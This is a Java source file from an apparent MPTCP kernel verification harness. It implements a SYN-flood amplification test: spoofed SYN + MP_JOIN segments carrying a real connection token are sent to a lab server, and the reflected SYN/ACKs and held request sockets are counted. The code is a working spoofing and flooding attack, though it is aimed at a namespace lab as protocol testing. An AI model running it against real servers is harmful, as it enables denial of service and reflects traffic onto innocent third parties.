package org.mptcpverify.kernel;

import java.io.IOException;
import java.net.InetAddress;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.mptcpverify.crypto.MptcpCrypto;
import org.mptcpverify.wire.Bytes;
import org.mptcpverify.wire.MptcpOption;
import org.mptcpverify.wire.TcpSegment;

/**
 * syn-flood-amplification: the attacker opens its own MPTCP connection to the server (from
 * 10.1.0.66, its own key) and then sends SYN + MP_JOIN with that connection's token from
 * {@link #SOURCES} spoofed addresses (10.1.0.100 and up), never completing them. Twice: with
 * the default SYN cookie setting ({@code tcp_syncookies = 1}: cookies only once the listener's
 * request queue is full), then with {@code net.ipv4.tcp_syncookies = 2} (a cookie for every SYN).
 * Success: in both phases the server answers every spoofed SYN with a SYN/ACK + MP_JOIN to the
 * spoofed address (its HMAC-B the one of the attacker's keys); in the first it keeps request
 * sockets, more than the `subflows` limit (nothing per connection bounds join requests before the
 * third ACK; the listener's backlog bounds them, and SYNs beyond it get cookies), and retransmits
 * their SYN/ACKs (more SYN/ACKs than SYNs). Control: the token of a wrong key, which matches no
 * connection.
 *
 * <p>The spoofed addresses resolve on the server to the attacker's MAC (permanent neighbour
 * entries, like 10.1.0.66), standing for victims on the LAN: the capture then shows the SYN/ACKs.
 */
public final class SynFloodAmplification implements KernelAttack {
    /** Spoofed sources: more than the `subflows` limit (2) and than the server application's listen backlog (4). */
    static final int SOURCES = 8;
    /** Long enough for the first SYN/ACK retransmission (initial RTO 1 s). */
    static final long OBSERVE_MS = 1_600;

    @Override
    public Profile profile() {
        return new Profile("syn-flood-amplification", "JoinStateBounded",
                "wrong keys: the spoofed SYNs carry the token of a wrong key (the attacker's own key XOR 0x0101010101010101)");
    }

    @Override
    public boolean run(AttackContext ctx) throws IOException {
        Topology topo = ctx.topology();
        List<InetAddress> victims = new ArrayList<>();
        for (int i = 0; i < SOURCES; i++) {
            InetAddress v = Topology.addr("10.1.0." + (100 + i));
            victims.add(v);
            Commands.run("ip", "-n", topo.server(), "neigh", "replace", v.getHostAddress(), "lladdr",
                    Topology.macString(Topology.ATTACKER_MAC), "dev", Topology.IFACE, "nud", "permanent");
        }
        KernelPeer own = new KernelPeer(Responder.kernel(ctx.tap(), Topology.SERVER_MAC), Topology.FORGED,
                ctx.connection().server(), ctx.connection().serverPort(), ctx.random().nextLong());
        KernelPeer.Connection mine = own.connect(ctx.random().nextLong());
        long keyB = ctx.wrongKeys() ? mine.serverKey() ^ AttackContext.WRONG_KEY_MASK : mine.serverKey();
        int token = MptcpCrypto.token(KernelPeer.V1, keyB);
        ctx.note(String.format("attacker: own MPTCP connection from %s, server token %08x; spoofed SYN + MP_JOIN use token %08x",
                Topology.FORGED.getHostAddress(), mine.serverToken(), token));
        ctx.note("server limits: `ip mptcp limits` " + Commands.runIn(topo.server(), "ip", "mptcp", "limits", "show").strip()
                + "; listener (ss -Hltn: state, Recv-Q, Send-Q = backlog, local) "
                + Commands.runIn(topo.server(), "ss", "-Hltn").strip().replaceAll("\\s+", " ")
                + "; net.ipv4.tcp_max_syn_backlog " + sysctl(topo, "net/ipv4/tcp_max_syn_backlog")
                + ", tcp_synack_retries " + sysctl(topo, "net/ipv4/tcp_synack_retries")
                + ", tcp_syncookies " + sysctl(topo, "net/ipv4/tcp_syncookies"));
        KernelCounters tcpBefore = KernelCounters.read(topo.server(), "TcpExt");
        int[] phase1 = phase(ctx, mine, victims, token, "default SYN cookie setting");
        Commands.runIn(topo.server(), "sh", "-c", "echo 2 > /proc/sys/net/ipv4/tcp_syncookies");
        int[] phase2 = phase(ctx, mine, victims, token, "net.ipv4.tcp_syncookies=2");
        Map<String, Long> delta = ctx.serverCounterDelta();
        ctx.note("server MIB counters changed: " + delta);
        ctx.note("server TcpExt counters changed: " + KernelCounters.read(topo.server(), "TcpExt").since(tcpBefore));
        return phase1[0] == SOURCES && phase1[2] > Topology.SUBFLOWS && phase1[1] > SOURCES && phase2[0] == SOURCES;
    }

    /** One flood; returns {victims answered with a valid SYN/ACK + MP_JOIN, SYN/ACKs seen, new request sockets}. */
    private static int[] phase(AttackContext ctx, KernelPeer.Connection mine, List<InetAddress> victims, int token,
                               String label) throws IOException {
        Wiretap tap = ctx.tap();
        int before = Ss.synRecv(ctx.topology().server());
        int mark = tap.size();
        List<Integer> randoms = new ArrayList<>();
        List<Integer> ports = new ArrayList<>();
        for (InetAddress v : victims) {
            int port = 40_000 + ctx.random().nextInt(20_000);
            int randomA = ctx.random().nextInt();
            ports.add(port);
            randoms.add(randomA);
            tap.send(Topology.SERVER_MAC, new TcpSegment(v, ctx.connection().server(), port, ctx.connection().serverPort(),
                    ctx.random().nextLong() & 0xffffffffL, 0, TcpSegment.SYN, Forge.WINDOW, List.of(Forge.mss(1460),
                    Forge.mptcp(new MptcpOption.MpJoinSyn(0, 1, token, randomA))), Bytes.empty()));
        }
        PathManager.sleep(OBSERVE_MS);
        int held = Ss.synRecv(ctx.topology().server()) - before;
        int synAcks = 0;
        int valid = 0;
        boolean[] answered = new boolean[victims.size()];
        for (Wiretap.Seen s : tap.segments().subList(mark, tap.size())) {
            TcpSegment t = s.segment();
            int i = victims.indexOf(t.dst());
            if (i < 0 || t.dstPort() != ports.get(i) || !t.has(TcpSegment.SYN) || !t.has(TcpSegment.ACK)) {
                continue;
            }
            synAcks++;
            var sa = CapturedConnection.option(t, MptcpOption.MpJoinSynAck.class);
            if (!answered[i] && sa.isPresent() && MptcpCrypto.constantTimeEquals(sa.get().truncatedHmac(),
                    MptcpCrypto.joinSynAckHmac(KernelPeer.V1, mine.serverKey(), mine.clientKey(), sa.get().senderRandom(),
                            randoms.get(i)))) {
                answered[i] = true;
                valid++;
            }
        }
        ctx.note("attacker (" + label + "): " + victims.size() + " SYN + MP_JOIN from spoofed " + victims.get(0).getHostAddress()
                + ".." + victims.get(victims.size() - 1).getHostAddress() + "; within " + OBSERVE_MS + " ms the server sent "
                + synAcks + " SYN/ACKs to them, " + valid + " spoofed sources got a SYN/ACK + MP_JOIN with the HMAC-B of the"
                + " attacker's connection; " + held + " new request sockets in SYN-RECV (ss)");
        return new int[] {valid, synAcks, held};
    }

    private static String sysctl(Topology topo, String path) throws IOException {
        return Commands.runIn(topo.server(), "cat", "/proc/sys/" + path).strip();
    }
}
